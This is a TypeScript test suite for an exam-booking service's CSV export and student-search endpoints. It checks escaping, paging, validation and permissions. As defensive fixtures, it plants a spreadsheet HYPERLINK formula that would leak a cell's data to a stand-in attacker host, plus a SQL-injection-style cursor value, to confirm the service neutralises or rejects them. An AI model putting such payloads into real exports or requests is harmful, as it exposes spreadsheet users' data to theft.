// CSV exports and the student search over a real replica (PGlite, or Postgres with DATABASE_URL): bytes, bounds, refusals.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { exportExamBookings, exportExams } from '../../src/bookings/exports.js'
import { BOOKING_CSV_COLUMNS, EXAM_CSV_COLUMNS } from '../../src/model/contract/exports.js'
import type { BookingRecord } from '../../src/model/records.js'
import { searchBookings, upsertBookings, upsertExams, type Queryable } from '../../src/replica/index.js'
import { isFormula, parseCsv, parseCsvObjects } from '../support/csv-parse.js'
import { bearer, makeBooking, makeExam, startTestApp, type TestApp } from '../support/fixtures.js'
import { issueToken } from '../../src/http/jwt.js'

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'

describe('CSV exports and student search', () => {
  let t: TestApp
  const exam = makeExam({ mock_exam_name: 'Roster, "quoted" exam', exam_date: '2026-12-05' })
  const other = makeExam({ mock_exam_name: 'Second exam', exam_date: '2027-01-10', is_active: 'false' })
  const archived = makeExam({ exam_date: '2026-12-07', deleted_at: new Date().toISOString() })
  const awkward: BookingRecord[] = [
    makeBooking(exam, { student_name: HYPERLINK, student_email: 'attacker@example.com' }),
    makeBooking(exam, { student_name: 'Smith, Jo', student_email: 'jo.smith@example.com', student_id: 'S-1' }),
    makeBooking(exam, { student_name: 'Line\r\nBreak "Q"', student_email: 'lb@example.com' }),
    makeBooking(exam, { student_name: 'Zoë Ünïcode 名前', student_email: 'zoe@example.com', attendance: 'attended' }),
    makeBooking(exam, { student_name: '+1 Plus', student_email: '-minus@example.com', student_id: '@at' }),
    makeBooking(exam, { student_name: 'Gone Student', deleted_at: new Date().toISOString() }),
  ]
  // The student a person looks for: three bookings on two exams, one cancelled.
  const findMe = [
    makeBooking(exam, {
      student_name: 'Priya Raman',
      student_email: 'Priya.Raman@Clinic.example',
      student_id: 'PR7731',
    }),
    makeBooking(other, {
      student_name: 'Priya Raman',
      student_email: 'priya.raman@clinic.example',
      student_id: 'PR7731',
      booking_status: 'cancelled',
    }),
    makeBooking(other, { student_name: 'P. Raman', student_email: 'praman@elsewhere.example', student_id: 'PR7731' }),
  ]
  const big = makeExam({ mock_exam_name: 'Big exam', exam_date: '2026-12-20', capacity: 5000 })
  const bigCount = 123

  beforeAll(async () => {
    t = await startTestApp()
    const many = Array.from({ length: bigCount }, (_, i) =>
      makeBooking(big, { student_name: `Bulk ${String(i).padStart(5, '0')}` }),
    )
    await t.app.db.transaction(async (tx) => {
      await upsertExams(tx, [exam, other, archived, big], 'manual')
      await upsertBookings(tx, [...awkward, ...findMe], 'manual')
    })
    await t.app.db.transaction((tx) => upsertBookings(tx, many, 'manual'))
  }, 120_000)
  afterAll(() => t?.close())

  const get = (url: string, token = t.token) => t.app.http.inject({ method: 'GET', url, headers: bearer(token) })
  const token = (permissions: string[]) => issueToken(t.app.config.jwtSecret, permissions)

  describe('GET /api/mock-exams/:id/bookings.csv', () => {
    it('answers an RFC 4180 attachment: BOM, header row, CRLF records, live bookings by student name', async () => {
      const res = await get(`/api/mock-exams/${exam.hubspot_id}/bookings.csv`)
      expect(res.statusCode).toBe(200)
      expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/)
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="mock-exam-${exam.hubspot_id}-bookings.csv"`,
      )
      expect(res.headers['cache-control']).toBe('private, no-store')
      expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
      expect(res.body.endsWith('\r\n')).toBe(true)
      const records = parseCsv(res.body)
      expect(records[0]).toEqual([...BOOKING_CSV_COLUMNS])
      const rows = parseCsvObjects(res.body)
      const live = [...awkward, findMe[0]!].filter((b) => !b.deleted_at)
      expect(rows.map((r) => r.hubspot_id).sort()).toEqual(live.map((b) => b.hubspot_id).sort())
      // By student name, as a roster: the same order Postgres gives the JSON list's names.
      const names = rows.map((r) => r.student_name)
      expect(names).toContain('Smith, Jo')
      expect(names).toContain('Line\r\nBreak "Q"')
      expect(names).toContain('Zoë Ünïcode 名前')
      expect(rows.find((r) => r.student_name === 'Zoë Ünïcode 名前')?.attendance).toBe('attended')
      expect(rows.find((r) => r.student_name === 'Smith, Jo')).toMatchObject({
        student_email: 'jo.smith@example.com',
        mock_exam_id: exam.hubspot_id,
        booking_status: 'confirmed',
        exam_date: expect.stringMatching(/^2026-12-05/),
      })
    })

    it('keeps formula-like cells text: a leading apostrophe, quoted, never a formula', async () => {
      const res = await get(`/api/mock-exams/${exam.hubspot_id}/bookings.csv`)
      // The raw bytes: the attack is quoted and starts with an apostrophe.
      expect(res.body).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`)
      const rows = parseCsvObjects(res.body)
      const attacker = rows.find((r) => r.student_email === 'attacker@example.com')!
      expect(attacker.student_name).toBe(`'${HYPERLINK}`)
      const plus = rows.find((r) => r.student_name.includes('Plus'))!
      expect(plus).toMatchObject({ student_name: "'+1 Plus", student_email: "'-minus@example.com", student_id: "'@at" })
      for (const row of rows) for (const cell of Object.values(row)) expect(isFormula(cell), cell).toBe(false)
    })

    it(`streams all ${bigCount} rows of a big exam once each, in order`, async () => {
      const res = await get(`/api/mock-exams/${big.hubspot_id}/bookings.csv`)
      expect(res.statusCode).toBe(200)
      const rows = parseCsvObjects(res.body)
      expect(rows.map((r) => r.student_name)).toEqual(
        Array.from({ length: bigCount }, (_, i) => `Bulk ${String(i).padStart(5, '0')}`),
      )
      expect(new Set(rows.map((r) => r.hubspot_id)).size).toBe(bigCount)
    })

    it('fetches keyset batches of the asked size that together hold every row once, in order', async () => {
      const sizes: number[] = []
      const names: unknown[] = []
      for await (const batch of (await exportExamBookings(t.app.db, big.hubspot_id, 10)).batches) {
        sizes.push(batch.length)
        names.push(...batch.map((row) => row.student_name))
      }
      expect(sizes).toEqual([...Array.from({ length: 12 }, () => 10), 3])
      expect(names).toEqual(Array.from({ length: bigCount }, (_, i) => `Bulk ${String(i).padStart(5, '0')}`))
      const exams: unknown[] = []
      for await (const batch of (await exportExams(t.app.db, {}, 2)).batches)
        exams.push(...batch.map((e) => e.hubspot_id))
      expect(exams).toEqual([exam.hubspot_id, big.hubspot_id, other.hubspot_id])
    })

    it('404s for an unknown or archived exam, 400 naming id for a malformed one', async () => {
      for (const id of ['424242', archived.hubspot_id]) {
        const res = await get(`/api/mock-exams/${id}/bookings.csv`)
        expect(res.statusCode, id).toBe(404)
        expect(res.json()).toMatchObject({ success: false, error: { code: 'E_EXAM_NOT_FOUND' } })
      }
      const bad = await get(`/api/mock-exams/12ab/bookings.csv`)
      expect(bad.statusCode).toBe(400)
      expect(bad.json().error.field).toBe('id')
    })
  })

  describe('GET /api/mock-exams.csv', () => {
    it('lists live exams with the JSON list filters, in its order', async () => {
      const all = parseCsvObjects((await get('/api/mock-exams.csv')).body)
      expect(parseCsv((await get('/api/mock-exams.csv')).body)[0]).toEqual([...EXAM_CSV_COLUMNS])
      expect(all.map((r) => r.hubspot_id)).toEqual([exam.hubspot_id, big.hubspot_id, other.hubspot_id])
      expect(all[0]).toMatchObject({ mock_exam_name: 'Roster, "quoted" exam', exam_date: '2026-12-05', capacity: '10' })
      const json = (await get('/api/mock-exams?is_active=true&endDate=2026-12-31')).json().exams
      const csv = parseCsvObjects((await get('/api/mock-exams.csv?is_active=true&endDate=2026-12-31')).body)
      expect(csv.map((r) => r.hubspot_id)).toEqual(json.map((e: { hubspot_id: string }) => e.hubspot_id))
      const res = await get('/api/mock-exams.csv?is_active=false')
      expect(res.headers['content-disposition']).toBe('attachment; filename="mock-exams.csv"')
      expect(parseCsvObjects(res.body).map((r) => r.hubspot_id)).toEqual([other.hubspot_id])
    })

    it('refuses bad filters with a 400 naming the field', async () => {
      for (const [query, field] of [
        ['startDate=2026-02-30', 'startDate'],
        ['is_active=yes', 'is_active'],
        ['startDate=2027-01-01&endDate=2026-01-01', 'endDate'],
      ]) {
        const res = await get(`/api/mock-exams.csv?${query}`)
        expect(res.statusCode, query).toBe(400)
        expect(res.json().error).toMatchObject({ code: 'E_VALIDATION', field })
      }
    })
  })

  describe('GET /api/bookings?q=', () => {
    type Hit = BookingRecord & { exam: { hubspot_id: string; mock_exam_name: string; exam_date: string } | null }
    const search = async (query: string) => {
      const res = await get(`/api/bookings?${query}`)
      expect(res.statusCode, `${query}: ${res.body}`).toBe(200)
      return res.json() as { success: true; bookings: Hit[]; next_cursor: string | null }
    }

    it('finds a student by part of their email, any case, across exams, with the exam named', async () => {
      const body = await search('q=RAMAN%40clinic')
      expect(body.success).toBe(true)
      expect(body.bookings.map((b) => b.hubspot_id).sort()).toEqual(
        [findMe[0]!.hubspot_id, findMe[1]!.hubspot_id].sort(),
      )
      const onOther = body.bookings.find((b) => b.mock_exam_id === other.hubspot_id)!
      expect(onOther.booking_status).toBe('cancelled')
      expect(onOther.exam).toMatchObject({
        hubspot_id: other.hubspot_id,
        mock_exam_name: 'Second exam',
        exam_date: '2027-01-10',
        archived: false,
      })
      expect(body.next_cursor).toBeNull()
    })

    it('finds by part of a name or a student id, and not a deleted booking', async () => {
      expect((await search('q=raman')).bookings).toHaveLength(3)
      expect((await search('q=pr7731')).bookings).toHaveLength(3)
      expect((await search('q=Smith')).bookings.map((b) => b.hubspot_id)).toEqual([awkward[1]!.hubspot_id])
      expect((await search('q=Gone%20Student')).bookings).toEqual([])
      // LIKE's wildcards are literal: "%" and "_" match only themselves.
      expect((await search('q=ram_n')).bookings).toEqual([])
      expect((await search('q=ram%25')).bookings).toEqual([])
    })

    it('does not match across two fields (name end + email start)', async () => {
      // "Raman" ends the name and "praman" starts an email: "man praman" would match only if joined.
      expect((await search(`q=${encodeURIComponent('Raman praman')}`)).bookings).toEqual([])
    })

    it('pages newest first by cursor, each booking once, next_cursor null on the last page', async () => {
      const seen: string[] = []
      let cursor: string | null = null
      let pages = 0
      do {
        const body = await search(`q=bulk%200&limit=10${cursor ? `&cursor=${cursor}` : ''}`)
        expect(body.bookings.length).toBeLessThanOrEqual(10)
        seen.push(...body.bookings.map((b) => b.hubspot_id))
        cursor = body.next_cursor
        pages += 1
      } while (cursor && pages < 1000)
      // "Bulk 0…" is every bulk name (padded to five digits).
      expect(seen).toHaveLength(bigCount)
      expect(new Set(seen).size).toBe(bigCount)
      expect(seen).toEqual([...seen].sort().reverse())
      expect(pages).toBe(Math.ceil(bigCount / 10))
    })

    it('refuses bad input with a 400 naming the field, and changes nothing', async () => {
      for (const [query, field] of [
        ['', 'q'],
        ['q=', 'q'],
        ['q=ab', 'q'],
        ['q=a.b.c', 'q'],
        [`q=${'x'.repeat(101)}`, 'q'],
        ['q=abc%0Adef', 'q'],
        ['q=raman&limit=0', 'limit'],
        ['q=raman&limit=101', 'limit'],
        ['q=raman&limit=ten', 'limit'],
        ['q=raman&limit=2.5', 'limit'],
        ['q=raman&cursor=%25%25', 'cursor'],
        ['q=raman&cursor=bm90LWpzb24', 'cursor'],
        [`q=raman&cursor=${Buffer.from('{"v":1,"after":"1 OR 1=1"}').toString('base64url')}`, 'cursor'],
        [`q=raman&cursor=${Buffer.from('{"v":2,"after":"1"}').toString('base64url')}`, 'cursor'],
      ]) {
        const res = await get(`/api/bookings?${query}`)
        expect(res.statusCode, query).toBe(400)
        expect(res.json().error, query).toMatchObject({ code: 'E_VALIDATION', field })
        expect(res.json().error.message.startsWith(field), query).toBe(true)
      }
    })
  })

  it('every new route needs exams.view (403 without, 401 with no token)', async () => {
    const writer = token(['bookings.edit', 'exams.edit'])
    for (const url of [
      '/api/mock-exams.csv',
      `/api/mock-exams/${exam.hubspot_id}/bookings.csv`,
      '/api/bookings?q=raman',
    ]) {
      const denied = await get(url, writer)
      expect(denied.statusCode, url).toBe(403)
      expect(denied.json().error.code).toBe('E_FORBIDDEN')
      const anonymous = await t.app.http.inject({ method: 'GET', url })
      expect(anonymous.statusCode, url).toBe(401)
      expect((await get(url, token(['exams.view']))).statusCode, url).toBe(200)
    }
  })

  it("the search's query uses the trigram index of migration 007 at a size where it should", async () => {
    // At a few hundred rows any plan is cheap and the planner rightly picks another index. So this
    // adds 20,000 bookings nobody searches for, inside a transaction it then rolls back, gathers
    // statistics, and asks for the plan with the planner left alone: a plan without the index means
    // the query's expression no longer matches the index's, or the index no longer pays.
    const rolledBack = new Error('roll back the planted rows')
    let plan = ''
    const outcome = await t.app.db
      .transaction(async (tx) => {
        await tx.query(
          `INSERT INTO public.hubspot_bookings (hubspot_id, mock_exam_id, student_id, student_name, student_email, hs_lastmodifieddate)
           SELECT 'planted-' || n, 'planted-exam-' || (n % 200), 'P' || n, 'Planted Student ' || n, 'planted' || n || '@example.com', now()
           FROM generate_series(1, 20000) AS n`,
        )
        await tx.query('ANALYZE public.hubspot_bookings')
        // GIN queues new entries in a pending list the planner charges for scanning, until
        // autovacuum merges it; merged here, as it is on a server that has been up for a while.
        await tx.query(`SELECT gin_clean_pending_list('public.idx_bookings_student_search'::regclass)`)
        const explaining: Queryable = {
          async query<R>(sql: string, params?: unknown[]) {
            const rows = await tx.query<{ 'QUERY PLAN': string }>(`EXPLAIN ${sql}`, params)
            plan ||= rows.rows.map((r) => r['QUERY PLAN']).join('\n')
            return tx.query<R>(sql, params)
          },
        }
        await searchBookings(explaining, 'raman', null, 20)
        throw rolledBack
      })
      .catch((error: unknown) => error)
    expect(outcome).toBe(rolledBack)
    expect(plan).toContain('idx_bookings_student_search')
  })
})
